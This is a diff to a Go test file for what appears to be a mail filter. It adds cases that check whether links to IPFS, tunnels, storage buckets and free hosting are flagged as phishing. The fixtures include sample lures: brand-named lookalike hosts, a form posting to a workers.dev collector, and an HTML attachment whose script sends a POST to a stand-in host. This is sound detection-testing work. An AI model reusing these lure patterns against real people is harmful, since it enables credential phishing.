@@ -89,6 +89,13 @@ func toKenji(m *message.Message) *message.Message {
 	return m
 }
 
+// fromSite makes m come from a site on Firebase hosting, as Firebase's own
+// verification mail does.
+func fromSite(m *message.Message) *message.Message {
+	m.From, m.Envelope.Sender = "noreply@acme-app-12345.firebaseapp.com", "noreply@acme-app-12345.firebaseapp.com"
+	return m
+}
+
 // attach is the usual shape: a text body and one attachment.
 func attach(p *message.Part) *message.Message {
 	return msg(text("1", "Please see the attachment.", declared("text/plain")), p)
@@ -428,6 +435,38 @@ func TestChecks(t *testing.T) {
 			{"address after #", toKenji(msg(text("1", "https://pub-3f1e.r2.dev/o365.html#kenji@corp.example.jp"))), "1"},
 			{"in the query", toKenji(msg(text("1", "https://news.example-esp.com/u?email=kenji@corp.example.jp"))), ""},
 			{"no recipient", msg(text("1", "https://pub-3f1e.r2.dev/o365.html#kenji@corp.example.jp")), ""},
+		},
+		"anonymous-host-link": {
+			{"ipfs subdomain", body(`<a href="https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/">Keep my mail</a>`), "1"},
+			{"ipfs path on any gateway", msg(text("1", "https://gw.example.net/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/a.pdf")), "1"},
+			{"ipfs scheme", body(`<a href="ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/verify.html">Verify</a>`), "1"},
+			{"tunnel", msg(text("1", "https://tied-agents-mild-recipe.trycloudflare.com/vm")), "1"},
+			{"page in a bucket", msg(text("1", "https://storage.googleapis.com/bkt-8823x/index.html")), "1"},
+			{"file in a bucket", msg(text("1", "https://storage.googleapis.com/public-data/2026/report.pdf")), ""},
+			{"ipfs image", body(`<img src="https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/cat.png">`), ""},
+			{"ipfs docs site", msg(text("1", "https://docs.ipfs.tech/install/")), ""},
+			{"app hosting", msg(text("1", "https://acme-demo.vercel.app/login")), ""},
+		},
+		"free-hosting-lure": {
+			{"brand in the site's name", body(`<a href="https://sharepoint-doc-7f3a.pages.dev/">Open</a>`), "1"},
+			{"brand in a bucket's name", msg(text("1", "https://storage.googleapis.com/paypal-center-7a/x.pdf")), "1"},
+			{"brand page in a bucket", msg(text("1", "https://firebasestorage.googleapis.com/v0/b/xyz-8823.appspot.com/o/adobe.html?alt=media")), "1"},
+			{"sign-in page on ipfs", msg(text("1", "https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/webmail.html")), "1"},
+			{"recipient in the query", toKenji(msg(text("1", "https://8f3a-203-0-113-7.ngrok-free.app/login?u=kenji@corp.example.jp"))), "1"},
+			{"text names a brand", body(`<a href="https://team-chat-84aa.vercel.app/">Open Microsoft Teams</a>`), "1"},
+			{"form posts there", body(`<form action="https://collect-7f3a.workers.dev/"><input name="e"></form>`), "1"},
+			{"attachment's script sends there", attach(htmlPart("2", `<p>Loading...</p><script>fetch("https://api-7f3a.workers.dev/c",{method:"POST"})</script>`, named("fax.html"))), "2"},
+			{"attachment's text names it", attach(htmlPart("2", `<script>var x=1</script><p>Docs: https://acme-docs.github.io/</p>`, named("notes.html"))), ""},
+			{"project docs", body(`<a href="https://kensa-milter.github.io/kensa/">docs</a> <a href="https://microsoft.github.io/TypeScript-New-Handbook/">Microsoft TypeScript handbook</a>`), ""},
+			{"developer demo", body(`<a href="https://nextjs-auth-login-demo.vercel.app/login">demo</a>`), ""},
+			{"google's own bucket", msg(text("1", "https://storage.googleapis.com/google-code-archive-downloads/v2/x.zip")), ""},
+			{"ordinary word", body(`<a href="https://sites.google.com/view/office-hours-2026">Office hours</a>`), ""},
+			{"pre-filled form", toKenji(msg(text("1", "https://docs.google.com/forms/d/e/1FAIp/viewform?entry.1=kenji@corp.example.jp"))), ""},
+			{"app's invitation", toKenji(msg(text("1", "https://acme-crm.herokuapp.com/invite?email=kenji@corp.example.jp"))), ""},
+			{"google's form", body(`<a href="https://docs.google.com/forms/d/e/1FAIp/viewform">Google Form</a>`), ""},
+			{"the sender's own site", fromSite(toKenji(msg(text("1", "https://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&email=kenji@corp.example.jp")))), ""},
+			{"the hosting's own site", body(`<a href="https://pages.dev/">Cloudflare Pages</a> <a href="https://www.weebly.com/">Weebly</a>`), ""},
+			{"brand image", body(`<img src="https://paypal-assets.netlify.app/logo.png">`), ""},
 		},
 		"link-text-mismatch": {
 			{"other domain", body(`<a href="https://attacker.example/x">www.example.org</a>`), "1"},
